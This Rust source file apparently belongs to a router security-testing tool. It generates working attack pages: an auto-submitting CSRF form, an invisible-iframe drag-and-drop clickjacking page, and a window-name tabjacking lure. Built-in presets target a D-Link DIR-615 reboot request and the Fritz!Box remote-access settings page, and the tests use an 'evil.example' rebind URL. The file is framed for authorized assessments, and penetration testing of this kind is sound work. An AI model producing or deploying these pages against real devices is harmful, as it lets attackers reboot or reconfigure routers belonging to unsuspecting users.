//! Static proof-of-concept attack pages.
//!
//! Three artifacts are produced: an auto-submitting CSRF form, a drag-and-drop
//! UI-redressing page that frames the target under transparent overlays, and a
//! lure/rebind page pair for window-name tabjacking. Every attacker-supplied
//! string is written into exactly one HTML context (attribute value or text)
//! and escaped for it; scripts only ever read values back through
//! `getAttribute`, so nothing is spliced into JavaScript source.

pub mod inspect;

use serde::{Deserialize, Serialize};
use thiserror::Error;
use url::Url;

pub const BANNER: &str = "<!-- router-audit security-testing artifact. Proof-of-concept page for authorized assessments of equipment you own or are permitted to test. -->";

#[derive(Debug, Error, PartialEq, Eq)]
pub enum PayloadError {
    #[error("field `{field}`: invalid URL {value:?}: {reason}")]
    InvalidUrl {
        field: &'static str,
        value: String,
        reason: String,
    },
    #[error("field `{field}`: {reason}")]
    Invalid { field: String, reason: String },
    #[error("spec parse error at `{path}`: {message}")]
    Parse { path: String, message: String },
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "UPPERCASE")]
pub enum FormMethod {
    Post,
    Get,
}

impl FormMethod {
    pub fn as_str(self) -> &'static str {
        match self {
            FormMethod::Post => "POST",
            FormMethod::Get => "GET",
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CsrfSpec {
    pub action_url: String,
    pub method: FormMethod,
    #[serde(default)]
    pub fields: Vec<(String, String)>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Rect {
    pub top: u32,
    pub left: u32,
    pub width: u32,
    pub height: u32,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DecoyItem {
    pub label: String,
    pub image_ref: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ButtonOverlay {
    pub top: u32,
    pub left: u32,
    pub label: String,
}

fn default_frame_position() -> Rect {
    Rect {
        top: 0,
        left: 0,
        width: 800,
        height: 600,
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RedressSpec {
    pub frame_url: String,
    pub drop_value: String,
    pub decoy_items: Vec<DecoyItem>,
    pub overlay_boxes: Vec<Rect>,
    pub button_overlay: ButtonOverlay,
    #[serde(default = "default_frame_position")]
    pub frame_position: Rect,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TabjackSpec {
    pub admin_url: String,
    pub window_name: String,
    pub evil_url: String,
}

/// Escapes for a double-quoted attribute value.
pub fn escape_attr(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            // the tokenizer would fold CR into LF
            '\r' => out.push_str("&#13;"),
            c => out.push(c),
        }
    }
    out
}

/// Escapes for element text content.
pub fn escape_text(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '\r' => out.push_str("&#13;"),
            c => out.push(c),
        }
    }
    out
}

fn check_url(field: &'static str, value: &str) -> Result<(), PayloadError> {
    check_text(field, value)?;
    Url::parse(value).map(|_| ()).map_err(|e| PayloadError::InvalidUrl {
        field,
        value: value.to_string(),
        reason: e.to_string(),
    })
}

fn check_text(field: &str, value: &str) -> Result<(), PayloadError> {
    if value.contains('\0') {
        return Err(PayloadError::Invalid {
            field: field.to_string(),
            reason: "NUL characters cannot be represented in HTML".into(),
        });
    }
    Ok(())
}

impl CsrfSpec {
    pub fn validate(&self) -> Result<(), PayloadError> {
        check_url("action_url", &self.action_url)?;
        for (i, (name, value)) in self.fields.iter().enumerate() {
            if name.is_empty() {
                return Err(PayloadError::Invalid {
                    field: format!("fields[{i}].name"),
                    reason: "field name must be non-empty".into(),
                });
            }
            check_text(&format!("fields[{i}].name"), name)?;
            check_text(&format!("fields[{i}].value"), value)?;
        }
        Ok(())
    }

    /// The reboot request from the D-Link DIR-615 proof of concept.
    pub fn dlink_reboot(gateway: &str) -> Self {
        Self {
            action_url: format!("{}/tools_system.htm", gateway.trim_end_matches('/')),
            method: FormMethod::Post,
            fields: vec![
                ("page".into(), "tools_system".into()),
                ("submitType".into(), "3".into()),
            ],
        }
    }
}

impl RedressSpec {
    pub fn validate(&self) -> Result<(), PayloadError> {
        check_url("frame_url", &self.frame_url)?;
        check_text("drop_value", &self.drop_value)?;
        if self.decoy_items.is_empty() {
            return Err(PayloadError::Invalid {
                field: "decoy_items".into(),
                reason: "at least one decoy item is required".into(),
            });
        }
        if self.overlay_boxes.is_empty() {
            return Err(PayloadError::Invalid {
                field: "overlay_boxes".into(),
                reason: "at least one overlay box is required".into(),
            });
        }
        for (i, d) in self.decoy_items.iter().enumerate() {
            check_text(&format!("decoy_items[{i}].label"), &d.label)?;
            check_text(&format!("decoy_items[{i}].image_ref"), &d.image_ref)?;
        }
        check_text("button_overlay.label", &self.button_overlay.label)
    }
}

impl TabjackSpec {
    pub fn validate(&self) -> Result<(), PayloadError> {
        check_url("admin_url", &self.admin_url)?;
        check_url("evil_url", &self.evil_url)?;
        if self.window_name.is_empty() {
            return Err(PayloadError::Invalid {
                field: "window_name".into(),
                reason: "window name must be non-empty".into(),
            });
        }
        check_text("window_name", &self.window_name)
    }
}

/// Parses a JSON spec, reporting the offending field path on failure.
pub fn parse_spec<T: serde::de::DeserializeOwned>(raw: &[u8]) -> Result<T, PayloadError> {
    let mut de = serde_json::Deserializer::from_slice(raw);
    serde_path_to_error::deserialize(&mut de).map_err(|e| PayloadError::Parse {
        path: e.path().to_string(),
        message: e.inner().to_string(),
    })
}

/// The artifacts `gen-payload` can produce.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PayloadKind {
    Csrf,
    Redress,
    Tabjack,
}

impl std::str::FromStr for PayloadKind {
    type Err = PayloadError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "csrf" => Ok(PayloadKind::Csrf),
            "redress" => Ok(PayloadKind::Redress),
            "tabjack" => Ok(PayloadKind::Tabjack),
            other => Err(PayloadError::Invalid {
                field: "kind".into(),
                reason: format!("unknown payload kind {other:?} (expected csrf, redress or tabjack)"),
            }),
        }
    }
}

/// Parses a JSON spec of the given kind and returns (file name, HTML) pairs.
pub fn generate_files(kind: PayloadKind, raw: &[u8]) -> Result<Vec<(&'static str, String)>, PayloadError> {
    Ok(match kind {
        PayloadKind::Csrf => vec![("csrf.html", gen_csrf_page(&parse_spec(raw)?)?)],
        PayloadKind::Redress => vec![("redress.html", gen_uiredress_page(&parse_spec(raw)?)?)],
        PayloadKind::Tabjack => {
            let (lure, rebind) = gen_tabjack_pages(&parse_spec(raw)?)?;
            vec![("tabjack_lure.html", lure), ("tabjack_rebind.html", rebind)]
        }
    })
}

fn document(title: &str, head_extra: &str, body_attrs: &str, body: &str) -> String {
    format!(
        "<!DOCTYPE html>\n{BANNER}\n<html>\n<head>\n<meta charset=\"utf-8\">\n<title>{}</title>\n{head_extra}</head>\n<body{body_attrs}>\n{body}</body>\n</html>\n",
        escape_text(title)
    )
}

pub fn gen_csrf_page(spec: &CsrfSpec) -> Result<String, PayloadError> {
    spec.validate()?;
    let mut form = format!(
        "<form action=\"{}\" method=\"{}\">\n",
        escape_attr(&spec.action_url),
        spec.method.as_str()
    );
    for (name, value) in &spec.fields {
        form.push_str(&format!(
            "<input type=\"hidden\" name=\"{}\" value=\"{}\">\n",
            escape_attr(name),
            escape_attr(value)
        ));
    }
    form.push_str("</form>\n");
    Ok(document(
        "CSRF proof of concept",
        "",
        " onload=\"document.forms[0].submit()\"",
        &form,
    ))
}

const OVERLAY_STYLE: &str =
    "<style>div.overlay, button.overlay { position:absolute; z-index:1; border:1px solid; pointer-events:none }\n.decoys { position:absolute; top:0; left:0; width:260px }\n.decoys img { display:block; width:200px; margin:8px; cursor:move }</style>\n";

const DRAGSTART: &str = "event.dataTransfer.setData('text/plain', this.getAttribute('data-drop'))";

pub fn gen_uiredress_page(spec: &RedressSpec) -> Result<String, PayloadError> {
    spec.validate()?;
    let drop = escape_attr(&spec.drop_value);
    let mut body = String::from("<div class=\"decoys\">\n");
    for item in &spec.decoy_items {
        body.push_str(&format!(
            "<figure><img src=\"{}\" alt=\"{}\" draggable=\"true\" data-drop=\"{drop}\" ondragstart=\"{DRAGSTART}\"><figcaption>{}</figcaption></figure>\n",
            escape_attr(&item.image_ref),
            escape_attr(&item.label),
            escape_text(&item.label),
        ));
    }
    body.push_str("</div>\n");
    for b in &spec.overlay_boxes {
        body.push_str(&format!(
            "<div class=\"overlay\" style=\"top:{}px; left:{}px; width:{}px; height:{}px\"></div>\n",
            b.top, b.left, b.width, b.height
        ));
    }
    let btn = &spec.button_overlay;
    body.push_str(&format!(
        "<button class=\"overlay\" style=\"top:{}px; left:{}px\">{}</button>\n",
        btn.top,
        btn.left,
        escape_text(&btn.label)
    ));
    let f = spec.frame_position;
    body.push_str(&format!(
        "<iframe src=\"{}\" style=\"position:absolute; top:{}px; left:{}px; width:{}px; height:{}px; opacity:0; z-index:0; border:0\"></iframe>\n",
        escape_attr(&spec.frame_url),
        f.top,
        f.left,
        f.width,
        f.height
    ));
    Ok(document("Sort the pictures", OVERLAY_STYLE, "", &body))
}

pub const REBIND_HANDLER: &str =
    "window.open(this.getAttribute('data-url'), this.getAttribute('data-window')); return false;";

/// Returns `(lure, rebind)`.
pub fn gen_tabjack_pages(spec: &TabjackSpec) -> Result<(String, String), PayloadError> {
    spec.validate()?;
    let lure = document(
        "Router status",
        "",
        "",
        &format!(
            "<a href=\"{}\" target=\"{}\">Check your router settings</a>\n",
            escape_attr(&spec.admin_url),
            escape_attr(&spec.window_name)
        ),
    );
    let rebind = document(
        "Continue",
        "",
        "",
        &format!(
            "<a href=\"#\" data-url=\"{}\" data-window=\"{}\" onclick=\"{REBIND_HANDLER}\">Continue</a>\n",
            escape_attr(&spec.evil_url),
            escape_attr(&spec.window_name)
        ),
    );
    Ok((lure, rebind))
}

/// Listing-style redress layout against the Fritz!Box remote-access page.
pub fn fritzbox_redress_example() -> RedressSpec {
    RedressSpec {
        frame_url: "http://192.168.178.1/cgi-bin/webcm?getpage=../html/de/menus/menu2.html&var:menu=internet&var:pagename=remoteaccess".into(),
        drop_value: "foobar".into(),
        decoy_items: ["Tired", "Hungry", "Playful"]
            .iter()
            .enumerate()
            .map(|(i, l)| DecoyItem {
                label: (*l).into(),
                image_ref: format!("kitten{}.jpg", i + 1),
            })
            .collect(),
        overlay_boxes: vec![
            Rect { top: 35, left: 300, width: 150, height: 24 },
            Rect { top: 75, left: 300, width: 150, height: 24 },
            Rect { top: 115, left: 300, width: 150, height: 24 },
        ],
        button_overlay: ButtonOverlay {
            top: 195,
            left: 425,
            label: "More kittens".into(),
        },
        frame_position: Rect { top: 0, left: 280, width: 700, height: 400 },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escapes_cover_metacharacters() {
        assert_eq!(escape_attr(r#"a&b<c>"d'"#), "a&amp;b&lt;c&gt;&quot;d&#39;");
        assert_eq!(escape_text("<b>&\r"), "&lt;b&gt;&amp;&#13;");
    }

    #[test]
    fn csrf_page_shape() {
        let html = gen_csrf_page(&CsrfSpec::dlink_reboot("http://192.168.0.1")).unwrap();
        assert!(html.starts_with("<!DOCTYPE html>\n<!-- router-audit security-testing artifact"));
        assert!(html.contains("<body onload=\"document.forms[0].submit()\">"));
        assert!(html.contains("<form action=\"http://192.168.0.1/tools_system.htm\" method=\"POST\">"));
        assert!(html.contains("name=\"submitType\" value=\"3\""));
    }

    #[test]
    fn invalid_specs_rejected() {
        let mut spec = CsrfSpec::dlink_reboot("http://192.168.0.1");
        spec.action_url = "tools_system.htm".into();
        assert!(matches!(gen_csrf_page(&spec), Err(PayloadError::InvalidUrl { field: "action_url", .. })));

        let mut spec = CsrfSpec::dlink_reboot("http://192.168.0.1");
        spec.fields.push((String::new(), "x".into()));
        assert!(matches!(gen_csrf_page(&spec), Err(PayloadError::Invalid { .. })));

        let mut r = fritzbox_redress_example();
        r.decoy_items.clear();
        assert!(gen_uiredress_page(&r).is_err());
        let mut r = fritzbox_redress_example();
        r.overlay_boxes.clear();
        assert!(gen_uiredress_page(&r).is_err());

        let t = TabjackSpec {
            admin_url: "http://192.168.1.1".into(),
            window_name: String::new(),
            evil_url: "http://evil.example".into(),
        };
        assert!(gen_tabjack_pages(&t).is_err());
    }

    #[test]
    fn negative_offsets_rejected_at_parse() {
        let raw = br#"{"frame_url":"http://a/","drop_value":"x","decoy_items":[{"label":"a","image_ref":"a.png"}],
            "overlay_boxes":[{"top":-1,"left":0,"width":1,"height":1}],"button_overlay":{"top":0,"left":0,"label":"b"}}"#;
        match parse_spec::<RedressSpec>(raw) {
            Err(PayloadError::Parse { path, .. }) => assert_eq!(path, "overlay_boxes[0].top"),
            other => panic!("unexpected {other:?}"),
        }
    }
}
